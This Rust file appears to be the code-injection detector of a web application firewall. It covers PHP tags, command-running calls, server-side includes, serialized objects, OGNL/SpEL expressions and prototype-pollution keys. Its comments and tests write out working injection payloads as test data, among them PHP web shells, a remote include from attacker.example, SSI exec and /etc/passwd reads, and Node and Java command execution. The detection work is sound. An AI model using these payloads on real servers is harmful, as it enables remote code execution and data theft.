//! Server-side code injection: PHP, Node.js and Java.
//!
//! Input: a normalized value, the value in its original case (for base64), its byte classes and
//! a scratch buffer. Output: confirmed or suspicious. Confirmed:
//! - a PHP open tag (`<?php`, `<?=`) whose code, up to its `?>`, runs a command or code, reads
//!   input or probes: a call in [`CALLS`] (an `include`/`require` only of a URL or stream
//!   wrapper or input), a backtick, a superglobal, or a probe that only a payload makes there
//!   (`md5(`, `phpversion(`, `file_get_contents(`…); PHP that only echoes (`<?php echo $name; ?>`,
//!   quoted in a code review) is suspicious;
//! - a call of a function that runs commands or code (`system(`, `passthru(`, `eval(`,
//!   `assert(`, `phpinfo(`, `os.popen(`, `Runtime.getRuntime().exec(`,
//!   `require('child_process')`, `process.mainModule.require(`…) whose argument is a literal, a
//!   variable or a decoding call (`base64_decode(`, `String.fromCharCode(`), where the value starts
//!   with it or a breakout precedes it (`';system('id');//`, `".passthru('id')."`,
//!   `1;phpinfo()`, `{system('id')}`);
//! - a call that only probes (`die(`, `exit(`, `md5(`, `print(`, `sleep(`…), the superglobals
//!   (`$_COOKIE`, `$_SERVER`…) and variable functions (`$f(`) where they open the value: after a
//!   blank-free token of at most 32 bytes (the value the app expected) and a quote then `;` or
//!   `.`, a `;`, or a `{`/`${` interpolation (`x';die(md5(1));//`, `".md5(1)."`, `{${exit()}}`,
//!   `'.$_COOKIE['x'].'`, `{$_SERVER['DOCUMENT_ROOT']}`); these are everyday code, so in a
//!   developer's message they stay suspicious;
//! - a superglobal called as a function (`$_GET['f']($_GET['x'])`), and a suppressed variable
//!   call (`@$f(`) or one of `$_` that starts the value or an assignment that does (`$x=@$f('id')`);
//! - `__import__('os').system(` and the like (a module imported and called in one expression),
//!   wherever it is;
//! - a server-side include directive that runs a command, dumps the environment or includes a
//!   file outside the site (`<!--#exec cmd="id" -->`, `<!--#printenv -->`,
//!   `<!--# include virtual="../../etc/passwd" -->`); a site's own include or echo is suspicious;
//! - serialized objects ([`serial`]: PHP `O:8:"stdClass":…` also inside arrays, Java streams with
//!   gadgets; [`gadget`]: pickles, gadget types in polymorphic JSON, YAML object tags) and Java
//!   expression languages ([`expr`]: OGNL, SpEL, EL).
//!
//! The same calls inside code or prose (`result = os.system(cmd)`, a stack trace, a question
//! about `ProcessBuilder` or `process.mainModule`) are suspicious, as are superglobals
//! (`$_GET[`, `$_SERVER`) and `child_process` alone.

use super::classes::{self, Mask};
use super::{expr, gadget, serial};
use aho_corasick::{AhoCorasick, AhoCorasickKind, MatchKind};
use std::sync::OnceLock;

/// Server-side include directives and the attributes they take (none: `printenv`).
const SSI: &[(&[u8], &[&[u8]])] = &[
    (b"exec", &[b"cmd", b"cgi"]),
    (b"include", &[b"virtual", b"file"]),
    (b"echo", &[b"var", b"encoding"]),
    (b"set", &[b"var"]),
    (b"config", &[b"errmsg", b"sizefmt", b"timefmt"]),
    (b"fsize", &[b"virtual", b"file"]),
    (b"flastmod", &[b"virtual", b"file"]),
    (b"printenv", &[]),
];

/// A server-side include directive at one of the value's `<!--#` (Apache's) or `<!--# ` (nginx's).
/// Returns (confirmed, suspicious): running a command or dumping the environment is an attack
/// wherever; including a file outside the site (`..`, `/etc/`, a URL) too; a site's own
/// `<!--#include virtual="/header.html" -->` or `<!--#echo var=…` (a template an editor saves)
/// is only suspicious.
fn ssi(s: &[u8]) -> (bool, bool) {
    let mut suspicious = false;
    for at in memchr::memmem::find_iter(s, b"<!--#").take(16) {
        let rest = s[at + 5..].trim_ascii_start();
        for &(name, attrs) in SSI {
            let Some(after) = rest.strip_prefix(name) else { continue };
            let after = after.trim_ascii_start();
            if attrs.is_empty() {
                if after.starts_with(b"-->") {
                    return (true, true);
                }
                continue;
            }
            let Some(value) = attrs.iter().find_map(|a| after.strip_prefix(*a).map(<[u8]>::trim_ascii_start).and_then(|r| r.strip_prefix(b"="))) else { continue };
            let value = &value[..value.len().min(128)];
            let outside = [&b".."[..], b"/etc/", b"://", b"/proc/", b"c:\\"].iter().any(|p| classes::contains(value, p));
            if name == b"exec" || (name == b"include" && outside) {
                return (true, true);
            }
            suspicious = true;
        }
    }
    (false, suspicious)
}

/// Calls that run a command or code, each up to and including its `(`.
const CALLS: &[&str] = &[
    "system(", "exec(", "shell_exec(", "passthru(", "popen(", "proc_open(", "pcntl_exec(", "eval(", "assert(",
    "create_function(", "call_user_func(", "phpinfo(", "file_put_contents(", "include(", "require(", "include_once(",
    "require_once(", "os.system(", "os.popen(", "subprocess.call(", "subprocess.popen(", "subprocess.check_output(",
    "__import__(", "getruntime().exec(", "processbuilder(", "child_process').exec(", "execsync(", "spawnsync(",
    "new function(", "settimeout(", "base64_decode(", "str_rot13(", "gzinflate(", "preg_replace(",
    "process.mainmodule.require(", "global.process.mainmodule.require(", "process.mainmodule.constructor._load(",
    "global.process.mainmodule.constructor._load(",
];

/// Calls an injection uses to prove it ran (or to stop the page), each up to and including its
/// `(`: everyday functions, so they only count where they open the value.
const PROBES: &[&str] = &[
    "die(", "exit(", "md5(", "sha1(", "crc32(", "print(", "print_r(", "printf(", "var_dump(", "var_export(", "echo(",
    "sleep(", "usleep(", "phpversion(", "php_uname(", "getenv(", "readfile(", "highlight_file(", "show_source(",
    "file_get_contents(", "fopen(", "unlink(",
];

/// PHP superglobals, without their `$`.
const SUPERGLOBALS: &[&[u8]] = &[b"_get", b"_post", b"_cookie", b"_server", b"_request", b"_env", b"_files", b"_session", b"globals"];

/// Arguments of a call in [`CALLS`] that make it a payload rather than code that handles data.
fn payload_argument(s: &[u8], at: usize) -> bool {
    let j = at + s[at..].iter().take_while(|&&b| b == b' ').count();
    classes::tick(j - at);
    const DECODERS: &[&[u8]] = &[
        b"base64_decode(", b"chr(", b"str_rot13(", b"gzinflate(", b"$_", b"string.fromcharcode(", b"atob(", b"buffer.from(",
        b"unescape(", b"hex2bin(", b"gzuncompress(", b"strrev(", b"decodeuricomponent(",
    ];
    match s.get(j) {
        Some(b'\'' | b'"' | b'`' | b'$' | b')') => true,
        Some(_) => DECODERS.iter().any(|p| s[j..].starts_with(p)),
        None => true,
    }
}

/// `__import__('os').system(` and the like at the start of `s`: a module that runs commands
/// imported and called in one expression, which only a payload (or a one-liner that is one)
/// writes. Confirmed wherever it is.
fn import_chain(s: &[u8]) -> bool {
    const CHAINS: &[&[u8]] = &[
        b"os').system(", b"os').popen(", b"os').exec", b"os').spawn", b"subprocess').", b"builtins').eval(", b"builtins').exec(",
        b"pty').spawn(", b"commands').getoutput(", b"posix').system(",
    ];
    let Some(rest) = s.strip_prefix(b"__import__(") else { return false };
    let rest = rest.trim_ascii_start();
    let Some(rest) = rest.strip_prefix(b"'").or_else(|| rest.strip_prefix(b"\"")) else { return false };
    classes::tick(CHAINS.len());
    CHAINS.iter().any(|c| {
        // The same with double quotes: compare with the quote byte swapped.
        rest.len() >= c.len() && rest.iter().zip(*c).all(|(&a, &b)| a == b || (b == b'\'' && a == b'"'))
    })
}

/// Whether the bytes before `at` end a string or statement the value was put in.
fn breakout_before(s: &[u8], at: usize) -> bool {
    let before = s[..at].trim_ascii_end();
    classes::tick(at - before.len());
    match before.last() {
        None => true,
        Some(b';' | b'\'' | b'"' | b'|' | b'&' | b'{' | b'`' | b'\n') => true,
        Some(b'.') => matches!(before.len().checked_sub(2).map(|k| before[k]), Some(b'\'' | b'"')),
        _ => false,
    }
}

/// Whether a construct at `s[start..]` opens the value: what precedes it is a blank-free token
/// of at most 32 bytes (what the app expected there) followed by what ends a string or
/// statement: a quote, closing brackets and `;` or `.` (`x');`, `".`), a `;` (`1;`), or an
/// interpolation opener (`{`, `${`).
fn opens_value(s: &[u8], start: usize) -> bool {
    let p = s[..start].trim_ascii_end();
    classes::tick(start - p.len());
    let head = if let Some(q) = p.strip_suffix(b"${").or_else(|| p.strip_suffix(b"{")) {
        q
    } else if let Some(q) = p.strip_suffix(b";").or_else(|| p.strip_suffix(b".")) {
        let closers = q.iter().rev().take(8).take_while(|&&b| matches!(b, b')' | b']' | b' ')).count();
        let q = &q[..q.len() - closers];
        match q.last() {
            Some(b'\'' | b'"') => &q[..q.len() - 1],
            _ if p.ends_with(b";") => q,
            _ => return false,
        }
    } else {
        return false;
    };
    classes::tick(head.len().min(33));
    head.len() <= 32 && !head.iter().any(|&b| matches!(b, b' ' | b'\n' | b'\t'))
}

/// `$name =` (maybe blank-free around the `=`) and nothing before it.
fn assignment_head(p: &[u8]) -> bool {
    let Some(q) = p.trim_ascii().strip_suffix(b"=") else { return false };
    let q = q.trim_ascii_end();
    q.len() > 1 && q.len() <= 33 && q[0] == b'$' && q[1..].iter().all(|b| b.is_ascii_alphanumeric() || *b == b'_')
}

/// Superglobals and variable functions. Returns (confirmed, suspicious).
fn variables(s: &[u8]) -> (bool, bool) {
    let mut suspicious = false;
    for at in memchr::memchr_iter(b'$', s).take(256) {
        let name_len = s[at + 1..].iter().take(32).take_while(|b| b.is_ascii_alphanumeric() || **b == b'_').count();
        classes::tick(name_len + 1);
        if name_len == 0 || s[at + 1].is_ascii_digit() {
            continue;
        }
        let name = &s[at + 1..at + 1 + name_len];
        // An index (at most 64 bytes), blanks, then `(`: the variable is called.
        let mut j = at + 1 + name_len;
        if s.get(j) == Some(&b'[') {
            if let Some(k) = classes::find_byte(b']', &s[j..s.len().min(j + 64)]) {
                j += k + 1;
            }
        }
        j += s[j..].iter().take(8).take_while(|&&b| b == b' ').count();
        let called = s.get(j) == Some(&b'(');
        let start = if at > 0 && s[at - 1] == b'@' { at - 1 } else { at };
        if SUPERGLOBALS.contains(&name) {
            suspicious = true;
            if called || opens_value(s, start) {
                return (true, true);
            }
        } else if called {
            suspicious = true;
            let bare = start < at || name.iter().all(|&b| b == b'_');
            if opens_value(s, start) || (bare && (start == 0 || assignment_head(&s[..start]))) {
                return (true, true);
            }
        }
    }
    (false, suspicious)
}

/// Probes that PHP code in a tag only runs as a payload (not `echo(`, `print(`, `die(`, which a
/// template prints with).
const TAG_PROBES: &[&str] = &[
    "md5(", "sha1(", "crc32(", "sleep(", "usleep(", "phpversion(", "php_uname(", "getenv(", "readfile(", "highlight_file(",
    "show_source(", "file_get_contents(", "fopen(", "unlink(",
];

/// Whether normalized text `s` is PHP source: it opens a PHP tag (`<?php` then a blank or its
/// end, or `<?=`) before any other non-blank byte.
pub fn php_source(s: &[u8]) -> bool {
    let t = s.trim_ascii_start();
    t.starts_with(b"<?=") || (t.starts_with(b"<?php") && t.get(5).is_none_or(|b| b.is_ascii_whitespace()))
}

/// Whether the code in a PHP tag runs a command or code, reads input, or probes.
fn runs_something(code: &[u8]) -> bool {
    classes::tick(code.len());
    if code.contains(&b'`') {
        return true;
    }
    const INPUT: &[&[u8]] = &[b"_get", b"_post", b"_cookie", b"_request", b"_server", b"_files"];
    let superglobal = memchr::memchr_iter(b'$', code).any(|i| INPUT.iter().any(|g| code[i + 1..].starts_with(g)));
    if superglobal {
        return true;
    }
    for word in [&b"include"[..], b"require"] {
        for i in memchr::memmem::find_iter(code, word) {
            let j = i + word.len();
            if includes_foreign(&code[j + if code[j..].starts_with(b"_once") { 5 } else { 0 }..]) {
                return true;
            }
        }
    }
    calls().find_iter(code).any(|m| {
        classes::tick(32);
        if m.start() > 0 && (code[m.start() - 1].is_ascii_alphanumeric() || code[m.start() - 1] == b'_') {
            return false;
        }
        let name = &code[m.start()..m.end()];
        if m.pattern().as_usize() >= CALLS.len() {
            return TAG_PROBES.iter().any(|p| p.as_bytes() == name);
        }
        !(name.starts_with(b"include") || name.starts_with(b"require"))
    })
}

/// Whether what follows an `include`/`require` (with or without parentheses) names a URL, a
/// stream wrapper or a share: a payload's (templates include their own files by name).
fn includes_foreign(arg: &[u8]) -> bool {
    const FOREIGN: &[&[u8]] = &[b"http:", b"https:", b"ftp:", b"php:", b"data:", b"expect:", b"zip:", b"phar:", b"//", b"\\\\"];
    let arg = &arg[arg.iter().take(8).take_while(|b| matches!(b, b' ' | b'\'' | b'"' | b'(')).count()..];
    FOREIGN.iter().any(|r| arg.starts_with(r))
}

/// Whether the argument of a `require(`/`include(` call (what follows its parenthesis) is one
/// quoted package name, as modules load their dependencies (`require('on-finished')`,
/// `require('./view')`, `require('node:path')`): no absolute or parent path, scheme or
/// expression, and none of Node's modules that reach the system or the network (`fs`,
/// `child_process`, `http`…), which a payload loads.
fn names_package(arg: &[u8]) -> bool {
    const SYSTEM: &[&[u8]] = &[
        b"child_process", b"fs", b"fs/promises", b"vm", b"net", b"os", b"process", b"worker_threads", b"dgram", b"cluster", b"module", b"v8",
        b"inspector", b"http", b"https", b"http2", b"dns", b"tls", b"repl",
    ];
    let Some(&q @ (b'\'' | b'"')) = arg.first() else { return false };
    let Some(len) = arg[1..].iter().take(64).position(|&b| b == q) else { return false };
    let name = &arg[1..1 + len];
    let name = name.strip_prefix(b"./").or_else(|| name.strip_prefix(b"node:")).unwrap_or(name);
    let plain = name.first().is_some_and(|b| b.is_ascii_alphanumeric() || *b == b'@')
        && name.iter().all(|&b| b.is_ascii_alphanumeric() || matches!(b, b'@' | b'/' | b'.' | b'_' | b'-'))
        && !classes::contains(name, b"..");
    plain && arg[2 + len..].trim_ascii_start().first() == Some(&b')') && !SYSTEM.contains(&name)
}

fn calls() -> &'static AhoCorasick {
    static C: OnceLock<AhoCorasick> = OnceLock::new();
    C.get_or_init(|| {
        let all = CALLS.iter().chain(PROBES);
        AhoCorasick::builder().kind(Some(AhoCorasickKind::DFA)).match_kind(MatchKind::LeftmostLongest).build(all).expect("static call list builds")
    })
}

/// PHP tags and calls. Returns (confirmed, suspicious).
fn tags_and_calls(s: &[u8], mask: Mask) -> (bool, bool) {
    let mut tag_seen = false;
    if mask & classes::QUESTION != 0 && mask & classes::LT != 0 {
        let mut from = 0;
        while let Some(k) = classes::find(&s[from..], b"<?") {
            let at = from + k + 2;
            let body = if s[at..].starts_with(b"php") { at + 3 } else if s[at..].starts_with(b"=") { at + 1 } else { from = at; continue };
            let end = classes::find(&s[body..], b"?>").map_or(s.len(), |j| body + j);
            let code = &s[body..end];
            tag_seen |= code.iter().any(|b| b.is_ascii_alphanumeric() || *b == b'$');
            if runs_something(code) {
                return (true, true);
            }
            from = end;
        }
    }
    // A call: an identifier byte right before a `(`.
    let called = |i: usize| i > 0 && (s[i - 1].is_ascii_alphanumeric() || s[i - 1] == b'_');
    if mask & classes::PAREN == 0 || !memchr::memchr_iter(b'(', s).any(called) {
        return (false, tag_seen);
    }
    let mut suspicious = tag_seen || classes::contains(s, b"child_process") || classes::contains(s, b"process.mainmodule");
    classes::tick(s.len());
    for m in calls().find_iter(s) {
        classes::tick(32);
        // A call must be the whole name: `system(` is not inside `filesystem(` or `my_eval(`.
        if m.start() > 0 && (s[m.start() - 1].is_ascii_alphanumeric() || s[m.start() - 1] == b'_') {
            continue;
        }
        let start = if s[..m.start()].ends_with(b"@") { m.start() - 1 } else { m.start() };
        let name = &s[m.start()..m.end()];
        // After a breakout (`';require('x')…`) no name is a module's own dependency; at the
        // value's start it is.
        let local = (name.starts_with(b"include") || name.starts_with(b"require"))
            && (s[..start].trim_ascii_end().is_empty() || !breakout_before(s, start))
            && names_package(s[m.end()..].trim_ascii_start());
        let confirmed = if m.pattern().as_usize() < CALLS.len() {
            suspicious |= !local;
            (!local && payload_argument(s, m.end()) && breakout_before(s, start)) || import_chain(&s[m.start()..])
        } else {
            opens_value(s, start)
        };
        if confirmed {
            return (true, true);
        }
    }
    (false, suspicious)
}

/// Looks for code injection in a normalized value `s`; `raw` is the value in its original case.
/// Returns (confirmed, suspicious).
pub fn detect(s: &[u8], raw: &[u8], mask: Mask, buf: &mut Vec<u8>) -> (bool, bool) {
    use classes::{AT, BRACE, BRACKET, COLON, DOLLAR, DOT, HASH, NEWLINE, PAREN, QUESTION, SLASH};
    let mut suspicious = false;
    let mut judge = |(confirmed, sus): (bool, bool)| {
        suspicious |= sus;
        confirmed
    };
    if serial::starts_like_stream(raw) && (judge(serial::java(raw, buf)) || judge(serial::php_base64(raw, buf))) {
        return (true, true);
    }
    if (gadget::may_be_pickle(raw, mask & NEWLINE != 0) && gadget::pickle(raw))
        || (gadget::starts_like_pickle_base64(raw) && gadget::pickle_base64(raw, buf))
    {
        return (true, true);
    }
    if (mask & BRACE != 0 && mask & COLON != 0 && judge(serial::php(s)))
        || (mask & DOT != 0 && (mask & (DOLLAR | AT | BRACKET) != 0 || gadget::starts_like_type(raw)) && judge(gadget::types_in(s)))
        || (mask & COLON != 0 && mask & SLASH != 0 && judge(gadget::yaml(s)))
        || (mask & (AT | HASH | BRACE | PAREN) != 0 && judge(expr::detect(s, mask)))
        || (mask & DOLLAR != 0 && judge(variables(s)))
        || (mask & (PAREN | QUESTION) != 0 && judge(tags_and_calls(s, mask)))
        || (mask & HASH != 0 && judge(ssi(s)))
    {
        return (true, true);
    }
    if prototype_pollution(s.trim_ascii()) || class_loader_binding(s.trim_ascii()) {
        return (true, true);
    }
    suspicious |= mask & DOT != 0 && java_hints().is_match(s);
    (false, suspicious)
}

/// A parameter that Spring's data binding walks to the class loader (Spring4Shell, CVE-2022-22965:
/// `class.module.classLoader.resources.context.parent.pipeline.first.pattern=`), or Struts 1's
/// `class.classLoader` (CVE-2014-0114): no form names a field so.
fn class_loader_binding(t: &[u8]) -> bool {
    // Also as a nested property (`user.class.module.classLoader…`) and indexed
    // (`class["classLoader"]`, `top['class']['classLoader']`): the segments before it.
    // A parameter's name: no blank or call, as Groovy's `this.class.classLoader.getResource(…)`
    // has.
    let separator = |b: &u8| matches!(b, b'.' | b'[' | b']' | b'\'' | b'"');
    classes::find(t, b"classloader").is_some_and(|i| {
        let segments: Vec<&[u8]> = t[i.saturating_sub(40)..i].split(separator).filter(|x| !x.is_empty()).collect();
        i > 0
            && separator(&t[i - 1])
            && matches!(segments.as_slice(), [.., b"class"] | [.., b"class", b"module"])
            && !matches!(segments.as_slice(), [.., b"this", b"class"])
            && !t.iter().any(|&b| matches!(b, b' ' | b'(' | b'\n'))
    })
}

/// A key that writes to every object's prototype through a deep merge or a query parser: a JSON
/// key `__proto__`, a parameter `__proto__[isAdmin]` or `constructor[prototype][x]` (the body
/// reader writes JSON's nested `constructor`/`prototype` keys so). Only where a key starts: code
/// that mentions `obj.__proto__` is text.
fn prototype_pollution(t: &[u8]) -> bool {
    // Most values name neither.
    if !(classes::contains(t, b"__proto__") || classes::contains(t, b"constructor")) {
        return false;
    }
    let key = |k: &[u8]| t.strip_prefix(k).is_some_and(|r| r.is_empty() || matches!(r[0], b'[' | b'.' | b']'));
    key(b"__proto__")
        || t.starts_with(b"constructor[prototype]")
        || t.starts_with(b"constructor.prototype.")
        // A nested parameter's segment (`a[__proto__][isAdmin]`, `x[0][constructor][prototype]`),
        // in a parameter's name: prose that names the trick has blanks.
        || (!t.contains(&b' ') && (classes::contains(t, b"[__proto__]") || classes::contains(t, b"[constructor][prototype]")))
}

/// Java names that exploits use and a WAF stops, but that also occur in code people paste:
/// Commons Collections' transformer gadgets, Struts' OGNL context, the JDK's internal Xalan (not
/// the process API, which every stack trace of a tool that runs one names). Suspicious only.
const JAVA_HINTS: &[&str] = &[
    "invokertransformer", "instantiatetransformer", "chainedtransformer", "clonetransformer", "constanttransformer",
    "com.opensymphony.xwork2", "com.sun.org.apache",
];

fn java_hints() -> &'static AhoCorasick {
    static H: OnceLock<AhoCorasick> = OnceLock::new();
    H.get_or_init(|| AhoCorasick::builder().kind(Some(AhoCorasickKind::DFA)).build(JAVA_HINTS).expect("static list builds"))
}

#[cfg(test)]
mod tests {
    use super::*;

    fn code(s: &str) -> (bool, bool) {
        let l = s.to_ascii_lowercase();
        detect(l.as_bytes(), s.as_bytes(), classes::mask(l.as_bytes()), &mut Vec::new())
    }

    #[test]
    fn prototype_pollution_keys_are_confirmed() {
        for p in ["__proto__", "__proto__[isAdmin]", "__proto__.polluted", "constructor[prototype][isAdmin]", "constructor.prototype.isAdmin"] {
            assert_eq!(code(p), (true, true), "{p}");
        }
        for t in ["obj.__proto__ is deprecated", "__proto__s", "the constructor.prototype chain"] {
            assert!(!code(t).0, "{t}");
        }
        for p in ["class.module.classLoader.resources.context.parent.pipeline.first.pattern", "user.class.module.classLoader.resources.x", "class[\"classLoader\"].resources.dirContext.docBase", "top['class']['classLoader']", "a[__proto__][isAdmin]", "x[0][constructor][prototype][y]"] {
            assert_eq!(code(p), (true, true), "{p}");
        }
        for t in [
            "class.moduleName",
            "the ClassLoader leaks",
            "getClass().getClassLoader() in our plugin",
            "def props = load(this.class.classLoader.getResourceAsStream(\"app.properties\"))",
            "this.class.classLoader.rootLoader",
            "careful: merge() lets obj[__proto__] through",
        ] {
            assert!(!code(t).0, "{t}");
        }
    }

    #[test]
    fn java_exploit_names_are_suspicious() {
        for t in ["{\"com.opensymphony.xwork2\": \"test\"}", "{\"test\": \"ProcessBuilder.evil.clonetransformer\"}"] {
            assert_eq!(code(t), (false, true), "{t}");
        }
        assert_eq!(code("at java.lang.ProcessBuilder.start(ProcessBuilder.java:1048)"), (false, false), "a stack trace");
    }

    #[test]
    fn injected_code_is_confirmed() {
        for p in [
            "<?php system($_GET['c']); ?>",
            "<?= `id` ?>",
            "<?php echo $_GET['x']; ?>",
            "<?php include('http://attacker.example/s.txt'); ?>",
            "<?php include 'php://input'; ?>",
            "<?php echo md5('probe'); ?>",
            "<?php echo(\"KURWA\"); file_put_contents(\"./index.php\", base64_decode(\"Pz4=\")); ?>",
            "system('id')",
            "';system('id');//",
            "\".passthru('cat /etc/passwd').\"",
            "1;phpinfo()",
            "<!--#exec cmd=\"id\" -->",
            "\"--><!--#include virtual=\"/etc/passwd\" -->",
            "<!--# exec cmd=\"id\" -->",
            "<!--# include virtual=\"../../../etc/passwd\" -->",
            "<!--#printenv -->",
            "{${system('id')}}",
            "eval(base64_decode('ZWNobyAx'))",
            "@eval($_POST['x'])",
            "__import__('os').system('id')",
            "require('child_process').exec('id')",
            "process.mainModule.require('child_process').execSync('id')",
            "global.process.mainModule.constructor._load('child_process').exec('id')",
            "eval(String.fromCharCode(97,108,101,114,116,40,49,41))",
            "';eval(String.fromCharCode(97,108,101,114,116))//",
        ] {
            assert!(code(p).0, "{p}");
        }
    }

    #[test]
    fn probes_superglobals_and_variable_calls_that_open_the_value_are_confirmed() {
        for p in [
            "';die(md5(31337));//",
            "x');exit();//",
            "\".md5(31337).\"",
            "'.print(md5(1)).'",
            "1;sleep(5)",
            "{${exit()}}",
            "${@print(md5(31337))}",
            "'.$_COOKIE['x'].'",
            "{$_SERVER['DOCUMENT_ROOT']}",
            "\";$_SERVER;//",
            "$_GET['f']($_GET['x'])",
            "$x=@$f('id');",
            "@$_('id')",
            "';$a='sys'.'tem';$a('id');//",
        ] {
            assert!(code(p).0, "{p}");
        }
    }

    #[test]
    fn serialized_objects_and_expressions_are_confirmed_through_their_modules() {
        assert!(code("O:8:\"stdClass\":1:{s:1:\"a\";s:1:\"b\";}").0);
        assert!(code("%{(#_='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS)}").0);
        assert!(code("${T(java.lang.Runtime).getRuntime().exec('id')}").0);
    }

    #[test]
    fn code_in_a_support_message_is_only_suspicious() {
        for t in [
            "    result = os.system(cmd)",
            "exec(code, namespace)",
            "I call filesystem() and my_eval() there",
            "Why does eval(x) fail?",
            "ast.literal_eval(node)",
            "What is <? in XML",
            "Should we use <?php echo htmlspecialchars($name); ?> here instead of echo $_GET[\"name\"]?",
            "<?php echo $name; ?>",
            "<?= $user->name ?>",
            "<?php include 'header.php'; ?>",
            "Use md5($password) and then die('bad login'); is that safe?",
            "$name = 'x'; die('stop');",
            "if ($x) { exit(1); }",
            "echo $_SERVER['HTTP_HOST'];",
            "Why is {$_SERVER['HTTP_HOST']} empty in my string?",
            "$_SERVER",
            "$callback($value)",
            "$http({method: 'GET'})",
            "$(document).ready(function() { init(); })",
            "{\"$set\": {\"price\": \"$5 (USD)\"}}",
            "Is process.mainModule.require(name) deprecated? Use require.main",
            "const { exec } = require('child_process');",
            "CryptoJS.MD5('text').toString()",
            "Error at java.lang.Runtime.exec(Runtime.java:347)",
            "<!--# region helpers -->",
            "<!--#include is an SSI directive-->",
            "<!-- #exec cmd is disabled -->",
            "<!--#include virtual=\"/header.html\" -->",
            "<!--#config timefmt=\"%Y\" -->",
            "<!--#echo var=\"DATE_LOCAL\" -->",
        ] {
            assert!(!code(t).0, "{t}");
        }
        assert_eq!(code("    result = os.system(cmd)"), (false, true));
        assert_eq!(code("<?php echo $name; ?>"), (false, true), "echo-only PHP is suspicious");
        assert_eq!(code("$_SERVER"), (false, true));
        assert_eq!(code("Is process.mainModule.require(name) deprecated? Use require.main"), (false, true));
        // A module loading its dependencies by name is not even a near miss.
        assert_eq!(code("var debug = require('debug')('express:application');"), (false, false));
        assert_eq!(code("const path = require('node:path')"), (false, false));
        assert_eq!(code("const http = require('node:http')"), (false, true), "a module that reaches the network");
        assert_eq!(code("var fn = require(mod).__express"), (false, true));
    }

    #[test]
    fn php_source_opens_with_a_php_tag() {
        for t in ["<?php echo 'x'; ?>", "  <?= $a ?>", "<?php\nphpinfo();", "<?php"] {
            assert!(php_source(t.as_bytes()), "{t}");
        }
        for t in ["<?xml version=\"1.0\"?>", "see <?php echo 1; ?>", "<?phpx", "hello"] {
            assert!(!php_source(t.as_bytes()), "{t}");
        }
    }
}